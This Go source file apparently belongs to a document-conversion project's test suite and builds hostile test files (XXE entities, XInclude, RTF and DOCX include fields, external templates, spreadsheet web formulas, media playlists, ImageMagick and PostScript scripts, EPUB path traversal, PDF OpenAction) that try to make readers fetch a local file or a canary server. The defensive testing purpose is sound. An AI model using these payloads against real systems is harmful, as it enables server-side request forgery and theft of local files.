// Package hostile generates files that attack the programs that read them, for
// tests of engines and of the server. [Files] returns files that access other
// files and servers. [Bombs] and [SlowBombs] require large resources.
// [Polyglots] are valid in several formats. [Names] returns file names that lead
// out of a directory. A [Trap] detects access.
package hostile

import (
	"archive/zip"
	"bytes"
	"net/url"
	"slices"
	"strings"
	"testing"

	"github.com/filewright/filewright/fileops"
	"github.com/filewright/filewright/fileops/format"
)

// Scaled returns files, or with -short the first one of each format, and so one or more
// for each engine.
func Scaled(files []*fileops.File) []*fileops.File {
	if !testing.Short() {
		return files
	}
	seen := make(map[format.Format]bool)
	return slices.DeleteFunc(slices.Clone(files), func(f *fileops.File) bool {
		again := seen[f.Format()]
		seen[f.Format()] = true
		return again
	})
}

// A target is the file and the server that hostile files try to access.
type target struct {
	path string // of a file
	file string // its URL
	base string // URL of a server
}

// each returns all notations of the target.
func (t target) each() []string { return []string{t.file, t.base + "/canary", t.path} }

// repeat repeats the pattern for each notation, which replaces @.
func (t target) repeat(pattern string) string {
	var b strings.Builder
	for _, s := range t.each() {
		b.WriteString(strings.ReplaceAll(pattern, "@", s))
	}
	return b.String()
}

// Files returns files that make their readers access resources outside: the text
// file at path, and the server at base, such as "http://127.0.0.1:8080". They
// use attacks that were found in the field; see SECURITY.md. An engine may
// reject or convert them, but must not access either resource.
func Files(path, base string) []*fileops.File {
	file := (&url.URL{Scheme: "file", Path: path}).String()
	var out []*fileops.File
	add := func(name, content string) { out = append(out, fileops.Bytes(name, []byte(content))) }
	for kind, target := range map[string]string{"file": file, "http": base + "/canary.png", "path": path} {
		add(kind+"-image.fodt", flatODF("text", `<office:text><text:p><draw:frame svg:width="5cm" svg:height="5cm"><draw:image xlink:href="`+target+`" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/></draw:frame></text:p></office:text>`))
		add(kind+"-section.fodt", flatODF("text", `<office:text><text:section text:name="s" text:protected="false"><text:section-source xlink:href="`+target+`" xlink:type="simple"/><text:p>x</text:p></text:section></office:text>`))
		add(kind+"-object.fodt", flatODF("text", `<office:text><text:p><draw:frame svg:width="5cm" svg:height="5cm"><draw:object xlink:href="`+target+`" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/></draw:frame></text:p></office:text>`))
		add(kind+"-sheet.fods", flatODF("spreadsheet", `<office:spreadsheet><table:table table:name="t"><table:table-source xlink:href="`+target+`" xlink:type="simple" table:mode="copy-all"/><table:table-row><table:table-cell table:formula="of:=WEBSERVICE(&quot;`+target+`&quot;)" office:value-type="string"/><table:table-cell table:formula="of:=['`+target+`'#$Sheet1.A1]" office:value-type="string"/></table:table-row></table:table></office:spreadsheet>`))
		add(kind+".rtf", `{\rtf1\ansi {\field{\*\fldinst INCLUDEPICTURE "`+target+`" \\* MERGEFORMATINET}{\fldrslt x}}{\field{\*\fldinst INCLUDETEXT "`+target+`"}{\fldrslt x}}{\*\template `+target+`}\par}`)
		add(kind+".html", `<html><head><link rel="stylesheet" href="`+target+`"><style>@import url("`+target+`"); @font-face{font-family:f;src:url("`+target+`")} body{font-family:f;background:url("`+target+`")}</style></head><body><img src="`+target+`"><iframe src="`+target+`"></iframe><object data="`+target+`"></object><embed src="`+target+`"><video src="`+target+`" poster="`+target+`"></video><script>fetch("`+target+`");document.write('<img src="`+target+`">')</script><meta http-equiv="refresh" content="0;url=`+target+`"><p>x</p></body></html>`)
		add(kind+".md", "![x]("+target+")\n\n<img src=\""+target+"\">\n\n\\include{"+target+"}\n\n```{.include}\n"+path+"\n```\n")
		add(kind+".svg", `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:xi="http://www.w3.org/2001/XInclude" width="90" height="90"><image xlink:href="`+target+`" width="50" height="50"/><use href="`+target+`#a"/><style>@import url("`+target+`");</style><text y="60"><xi:include href="`+target+`" parse="text"/></text></svg>`)
		add(kind+"-entity.svg", `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY e SYSTEM "`+target+`">]><svg xmlns="http://www.w3.org/2000/svg" width="90" height="90"><text y="20">&e;</text></svg>`)
		add(kind+".docx", Zip(
			"[Content_Types].xml", `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/><Override PartName="/word/settings.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml"/></Types>`,
			"_rels/.rels", hostileRels(`<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/>`),
			"word/document.xml", `<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><w:body><w:p><w:r><w:drawing><wp:inline><wp:extent cx="914400" cy="914400"/><wp:docPr id="1" name="p"/><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic><pic:nvPicPr><pic:cNvPr id="1" name="p"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip r:link="r2"/><a:stretch><a:fillRect/></a:stretch></pic:blipFill><pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="914400" cy="914400"/></a:xfrm><a:prstGeom prst="rect"/></pic:spPr></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p><w:p><w:fldSimple w:instr=" INCLUDETEXT &quot;`+target+`&quot; "><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p></w:body></w:document>`,
			"word/_rels/document.xml.rels", hostileRels(`<Relationship Id="r2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="`+target+`" TargetMode="External"/><Relationship Id="r3" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/settings" Target="settings.xml"/>`),
			"word/settings.xml", `<?xml version="1.0"?><w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:attachedTemplate r:id="r1"/></w:settings>`,
			"word/_rels/settings.xml.rels", hostileRels(`<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="`+target+`" TargetMode="External"/>`),
		))
		add(kind+"-entity.docx", Zip(
			"[Content_Types].xml", `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`,
			"_rels/.rels", hostileRels(`<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/>`),
			"word/document.xml", `<?xml version="1.0"?><!DOCTYPE d [<!ENTITY e SYSTEM "`+target+`">]><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>&e;</w:t></w:r></w:p></w:body></w:document>`,
		))
		// Playlists, whose entries media programs open.
		add(kind+"-hls.mp4", "#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXTINF:9,\n"+target+"\n#EXT-X-ENDLIST\n")
		add(kind+"-concat.mp4", "ffconcat version 1.0\nfile '"+target+"'\n")
		add(kind+"-sdp.mp4", "v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\na=control:"+target+"\nm=video 5004 RTP/AVP 96\na=rtpmap:96 H264/90000\n")
		add(kind+"-dash.mp4", `<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT9S"><Period><AdaptationSet><Representation id="1" bandwidth="1"><BaseURL>`+target+`</BaseURL></Representation></AdaptationSet></Period></MPD>`)
		add(kind+"-hls.avi", "RIFF\x24\x00\x00\x00AVI LIST\x0c\x00\x00\x00movi GAB2\x00\x02\x00#EXTM3U\n#EXTINF:1,\n"+target+"\n")
		// Scripts of image programs, with the names of pictures.
		add(kind+"-msl.png", `<?xml version="1.0"?><image><read filename="`+target+`"/><write filename="out.png"/></image>`)
		add(kind+"-mvg.png", "push graphic-context\nviewbox 0 0 64 64\nfill 'url("+target+")'\nimage over 0,0 64,64 '"+target+"'\npop graphic-context\n")
		add(kind+"-ps.png", "%!PS\n("+path+") (r) file 999 string readstring pop show showpage\n")
		add(kind+"-ps.pdf", "%!PS\n("+path+") (r) file 999 string readstring pop show showpage\n")
		add(kind+".epub", Zip(
			"mimetype", "application/epub+zip",
			"META-INF/container.xml", `<?xml version="1.0"?><container version="1.0" xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><rootfiles><rootfile full-path="content.opf" media-type="application/oebps-package+xml"/></rootfiles></container>`,
			"content.opf", `<?xml version="1.0"?><package xmlns="http://www.idpf.org/2007/opf" version="3.0" unique-identifier="id"><metadata xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:identifier id="id">x</dc:identifier><dc:title>x</dc:title><dc:language>en</dc:language></metadata><manifest><item id="a" href="a.xhtml" media-type="application/xhtml+xml"/></manifest><spine><itemref idref="a"/></spine></package>`,
			"a.xhtml", `<html xmlns="http://www.w3.org/1999/xhtml"><head><title>x</title></head><body><p>x</p><img src="`+target+`"/><img src="../../../../../../../..`+path+`"/></body></html>`,
		))
	}
	all := []func(target) []*fileops.File{hostileOffice, hostileWeb, hostileText, hostileMedia, hostilePictures, hostilePDFs, hostileArchives}
	for _, f := range all {
		out = append(out, f(target{path: path, file: file, base: base})...)
	}
	add("remote.pdf", "%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/URI/URI("+base+"/canary)>>>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]/Resources<</XObject<</X 4 0 R>>>>/Contents 5 0 R>>endobj\n4 0 obj<</Type/XObject/Subtype/Image/Width 1/Height 1/BitsPerComponent 8/ColorSpace/DeviceGray/F<</Type/Filespec/FS/URL/F("+base+"/canary)>>/Length 0>>stream\n\nendstream endobj\n5 0 obj<</Length 5>>stream\n/X Do\nendstream endobj\ntrailer<</Root 1 0 R/Size 6>>\n%%EOF\n")
	return out
}

func hostileRels(s string) string {
	return `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">` + s + `</Relationships>`
}

func flatODF(kind, body string) string {
	return `<?xml version="1.0" encoding="UTF-8"?><office:document xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" office:version="1.2" office:mimetype="application/vnd.oasis.opendocument.` + kind + `"><office:body>` + body + `</office:body></office:document>`
}

// Zip returns an archive of files, given as alternating names and contents. The
// first file is not compressed, as EPUB requires.
func Zip(files ...string) string {
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	for i := 0; i+1 < len(files); i += 2 {
		method := zip.Deflate
		if i == 0 {
			method = zip.Store
		}
		w, err := z.CreateHeader(&zip.FileHeader{Name: files[i], Method: method})
		if err == nil {
			_, err = w.Write([]byte(files[i+1]))
		}
		if err != nil {
			panic(err) // impossible: writes only to memory
		}
	}
	if err := z.Close(); err != nil {
		panic(err)
	}
	return b.String()
}
